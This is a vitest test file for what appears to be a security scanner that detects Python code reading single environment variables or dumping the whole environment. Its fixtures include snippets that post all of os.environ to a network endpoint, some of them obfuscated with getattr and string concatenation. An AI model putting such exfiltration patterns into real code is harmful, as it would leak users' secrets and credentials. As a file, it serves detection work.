import { describe, expect, test } from 'vitest';
import { saidByPython } from '../../../testing/python-facts.ts';

describe('a variable that is read is told by its name', () => {
  test.each([
    ['a subscript', `import os\nkey = os.environ['HARBOR_TOKEN']`, ['os.environ | HARBOR_TOKEN']],
    ['get', `import os\nos.environ.get('HARBOR_TOKEN', 'x')`, ['os.environ | HARBOR_TOKEN']],
    ['getenv', `from os import getenv as g\ng('HARBOR_TOKEN')`, ['os.getenv | HARBOR_TOKEN']],
    [
      'another name of the environment',
      `from os import environ as e\ne['HARBOR_TOKEN']`,
      ['os.environ | HARBOR_TOKEN'],
    ],
    [
      'a variable that is the environment',
      `import os\nenv = os.environ\nenv['HARBOR_TOKEN']`,
      ['os.environ | HARBOR_TOKEN'],
    ],
    ['a name that is put together', `import os\nos.environ['HARBOR' + '_TOKEN']`, ['os.environ | HARBOR_TOKEN']],
    [
      'each of a loop',
      `import os\nfor name in ['A_TOKEN', 'B_TOKEN']:\n    os.getenv(name)`,
      ['os.getenv | A_TOKEN', 'os.getenv | B_TOKEN'],
    ],
    [
      'an environment that is hidden',
      `getattr(__import__('os'), 'environ')['HARBOR_TOKEN']`,
      ['os.environ | HARBOR_TOKEN'],
    ],
  ])('%s', (_name, code, said) => {
    expect(saidByPython(code, 'environment')).toEqual(said);
  });
});

test.each([
  ['one that is set', `import os\nos.environ['HARBOR'] = '1'`],
  ['one that is deleted', `import os\ndel os.environ['HARBOR']`],
  ['a name that nothing is known of', `import os\nos.environ[name]`],
  ['another dictionary', `environ = {}\nenviron['HARBOR_TOKEN']`],
])('%s is not told', (_name, code) => {
  expect(saidByPython(code, 'environment')).toEqual([]);
});

describe('the whole environment that is taken as a value is a dump', () => {
  test.each([
    ['dict()', `import os, requests\nrequests.post(u, json=dict(os.environ))`, ['dict | ']],
    ['a copy that is sent', `import os, requests\nall = os.environ.copy()\nrequests.post(u, json=all)`, ['copy | ']],
    ['json', `import os, json\njson.dumps(dict(os.environ))`, ['dict | ']],
    ['a text', `import os\nbody = str(os.environ)`, ['str | ']],
    ['spread', `import os\nbody = {**os.environ}`, ['spread | ']],
    ['a loop over items', `import os\nfor k, v in os.environ.items():\n    print(k, v)`, ['iteration | ']],
    ['a comprehension', `import os\nfound = {k: v for k, v in os.environ.items() if 'KEY' in k}`, ['iteration | ']],
    ['in a report', `import os\nreport = {'hostname': name, 'env': dict(os.environ)}`, ['dict | ']],
    ['in a text', `import os, json\nbody = json.dumps({'env': os.environ.copy()})`, ['copy | ']],
    ['in what is sent', `import os, requests\nrequests.post(u, json={'env': dict(os.environ)})`, ['dict | ']],
    ['handed to somebody', `import os\ndef go(client):\n    client.track(os.environ)`, ['track | ']],
    ['an environment that is hidden', `import os\nbody = dict(getattr(os, 'env' + 'iron'))`, ['dict | ']],
  ])('%s', (_name, code, said) => {
    expect(saidByPython(code, 'environment-dump')).toEqual(said);
  });
});

describe('an environment that a started process gets is none', () => {
  test.each([
    ['env=', `import os, subprocess\nsubprocess.run(['git'], env=os.environ)`],
    ['env= of a copy', `import os, subprocess\nsubprocess.run(['git'], env={**os.environ, 'LANG': 'C'})`],
    [
      'a variable behind env=',
      `import os, subprocess\nenv = os.environ.copy()\nenv['LANG'] = 'C'\nsubprocess.Popen(['git'], env=env)`,
    ],
    [
      'a function behind env=',
      `import os, subprocess\ndef clean():\n    env = dict(os.environ)\n    return env\nsubprocess.run(['git'], env=clean())`,
    ],
    [
      'a member behind env=',
      `import os\nclass A:\n    def __init__(self):\n        self.env = os.environ.copy()\n    def go(self):\n        return StdioServerParameters(command='npx', env=self.env)`,
    ],
    ['options', `import os\noptions = {'env': {**os.environ}}`],
    ['options with more', `import os\noptions = {'cwd': here, 'env': dict(os.environ), 'timeout': 3}`],
    ['os.execve', `import os\nos.execve('/usr/bin/git', ['git'], dict(os.environ))`],
    ['updated', `import os, subprocess\nenv = {}\nenv.update(os.environ)\nsubprocess.run(['git'], env=env)`],
    ['a test of one name', `import os\nif 'HARBOR' in os.environ:\n    pass`],
    ['another name', `import os\nenviron = os.environ`],
    ['one variable', `import os\nos.environ.get('HARBOR')`],
  ])('%s', (_name, code) => {
    expect(saidByPython(code, 'environment-dump')).toEqual([]);
  });

  test('a variable that goes to a process and to the network is one', () => {
    const code = `import os, subprocess, requests
def go():
    subprocess.run(['git'], env=os.environ)
    requests.post('https://quay.invalid', json=dict(os.environ))`;
    expect(saidByPython(code, 'environment-dump')).toEqual(['dict | ']);
  });
});
